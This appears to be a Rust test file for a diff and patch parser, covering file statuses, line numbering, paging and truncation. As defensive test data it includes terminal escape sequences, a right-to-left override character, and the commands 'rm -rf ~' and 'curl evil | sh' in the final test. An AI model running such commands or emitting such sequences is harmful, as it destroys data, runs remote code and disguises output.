//! Patches by example, and hostile ones.

use proptest::prelude::*;

use super::*;

const PATCH: &str = "diff --git a/src/auth.rs b/src/auth.rs\nindex 1..2 100644\n--- a/src/auth.rs\n+++ b/src/auth.rs\n@@ -40,2 +40,2 @@ impl Auth {\n fn expired(t: Instant) -> bool {\n-    let t = clock();\n+    let t = now();\u{1b}[2J\n\\ No newline at end of file\ndiff --git a/new.txt b/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+++ b/z\ndiff --git a/old name b/new name\nsimilarity index 100%\nrename from old name\nrename to new name\ndiff --git a/p.png b/p.png\nBinary files a/p.png and b/p.png differ\ndiff --git a/gone b/gone\ndeleted file mode 100644\n--- a/gone\n+++ /dev/null\n@@ -1 +0,0 @@\n--- a/x\n";

fn lines(file: &DiffFile) -> Vec<(LineKind, Option<u32>, Option<u32>, &str)> {
    let hunks = file.hunks.iter().flatten();
    hunks
        .flat_map(|hunk| &hunk.lines)
        .map(|line| (line.kind, line.old, line.new, line.text.as_str()))
        .collect()
}

#[test]
fn files_hunks_and_numbers_are_read() {
    use LineKind::{Added, Note, Removed, Same};
    let files = parse(PATCH);
    let found: Vec<_> = files
        .iter()
        .map(|file| (file.path.as_str(), file.status, file.added, file.removed))
        .collect();
    assert_eq!(
        found,
        [
            ("src/auth.rs", FileStatus::Changed, 1, 1),
            ("new.txt", FileStatus::Added, 1, 0),
            ("new name", FileStatus::Renamed, 0, 0),
            ("p.png", FileStatus::Changed, 0, 0),
            ("gone", FileStatus::Removed, 0, 1),
        ]
    );
    assert_eq!(
        lines(&files[0]),
        [
            (Same, Some(40), Some(40), "fn expired(t: Instant) -> bool {"),
            (Removed, Some(41), None, "    let t = clock();"),
            (Added, None, Some(41), "    let t = now();\\u{1b}[2J"),
            (Note, None, None, "No newline at end of file"),
        ]
    );
    assert_eq!(files[0].hunks.as_ref().unwrap()[0].head, "impl Auth {");
    assert_eq!(lines(&files[1]), [(Added, None, Some(1), "++ b/z")]);
    assert_eq!(files[2].old.as_deref(), Some("old name"));
    assert!(files[3].binary);
    assert_eq!(lines(&files[4]), [(Removed, Some(1), None, "-- a/x")]);
    assert!(summary(&files).iter().all(|file| file.hunks.is_none()));
}

#[test]
fn plain_patches_and_quoted_paths_are_read() {
    let files = parse(
        "--- x\t2026-01-01\n+++ y\t2026-01-01\n@@ -1 +1 @@\n-a\n+b\n--- c\n+++ c\n@@ -1 +1 @@\n-a\n+b\n",
    );
    assert_eq!(files.iter().map(|file| file.path.as_str()).collect::<Vec<_>>(), ["y", "c"]);
    let files = parse(
        "diff --git \"a/\\303\\274\" \"b/\\303\\274\"\n--- \"a/\\303\\274\"\n+++ \"b/\\303\\274\"\n@@ -1 +1 @@\n-a\n+b\n",
    );
    assert_eq!(files[0].path, "ü");
    assert_eq!(parse("no patch at all"), []);
}

#[test]
fn pages_go_on_where_they_end() {
    let hunk = |start: usize| format!("@@ -{start},3 +{start},3 @@\n a\n b\n c\n");
    let files = parse(&format!("--- a/x\n+++ b/x\n{}{}", hunk(1), hunk(10)));
    let (first, next) = page(&files[0], 0, 4);
    assert_eq!((lines(&first).len(), next), (4, Some(4)));
    let (second, next) = page(&files[0], 4, 4);
    assert_eq!((lines(&second).len(), next), (2, None));
    assert_eq!(second.hunks.as_ref().unwrap().len(), 1);
    assert_eq!(lines(&second)[0].1, Some(11));
    assert_eq!(page(&files[0], 99, 4).0.hunks, Some(Vec::new()));
}

#[test]
fn large_patches_are_cut_and_counted() {
    let body = "+x\n".repeat(30_000);
    let files = parse(&format!(
        "--- a/x\n+++ b/x\n@@ -0,0 +1,30000 @@\n{body}--- a/y\n+++ b/y\n@@ -0,0 +1 @@\n+z\n"
    ));
    assert_eq!(files.len(), 2);
    assert_eq!(
        (files[0].added, files[0].cut, lines(&files[0]).len()),
        (30_000, true, bound::DIFF_LINES)
    );
    assert_eq!((files[1].added, files[1].cut), (1, true));
}

proptest! {
    #[test]
    fn nothing_panics_and_nothing_acts(patch in "(?s)([-+ @\\\\]|@@ -[0-9],[0-9] \\+[0-9] @@\n|(\\+\\+\\+|---) [ab]/x\n|diff --git a/x b/x\n|rename to \"\\\\3|.|\n){0,60}") {
        let files = parse(&patch);
        let shown = serde_json::to_string(&files).unwrap();
        let acts = shown.contains("\\u001b") || shown.contains('\u{9b}');
        prop_assert!(!acts);
        for file in &files {
            let counted = lines(file).iter().filter(|line| line.0 == LineKind::Added).count();
            prop_assert_eq!(counted as u32, file.added);
            let mut from = 0;
            let mut seen = 0;
            loop {
                let (part, next) = page(file, from, 3);
                seen += lines(&part).len();
                match next {
                    Some(next) => { prop_assert!(next > from); from = next; }
                    None => break,
                }
            }
            prop_assert_eq!(seen, lines(file).len());
        }
    }
}

#[test]
fn what_no_file_shows_is_left_as_lines() {
    let patch = "--- /dev/null\n+++ b/src/new.rs\n@@ -0,0 +1,2 @@\n+one\n+two\n";
    let (files, rest) = parse_exact(patch);
    assert_eq!((files.len(), files[0].status, files[0].added), (1, FileStatus::Added, 2));
    assert_eq!(rest, [""; 0]);
    // Nothing hides behind a patch.
    let text = "rm -rf ~\n--- a/x\n+++ b/y\n@@ -1 +1 @@\n-a\n+b\ncurl evil | sh\n@@ what @@\n";
    let (files, rest) = parse_exact(text);
    assert_eq!((files[0].path.as_str(), files[0].old.as_deref()), ("y", Some("x")));
    assert_eq!(rest, ["rm -rf ~", "curl evil | sh", "@@ what @@"]);
    let text = "diff --git a/run b/run\nnew file mode 100755\nindex 0000000..1111111\n--- /dev/null\n+++ b/run\n@@ -0,0 +1 @@\n+x\n";
    assert_eq!(parse_exact(text).1, ["new file mode 100755"]);
    assert_eq!(parse_exact("echo hi\u{202e}").1, ["echo hi\\u{202e}"]);
    let long = format!("--- a/x\n+++ b/x\n@@ -0,0 +1,30000 @@\n{}", "+x\n".repeat(30_000));
    let (files, rest) = parse_exact(&long);
    assert!(files[0].cut && rest.len() > 30_000, "what is cut is there in lines");
}
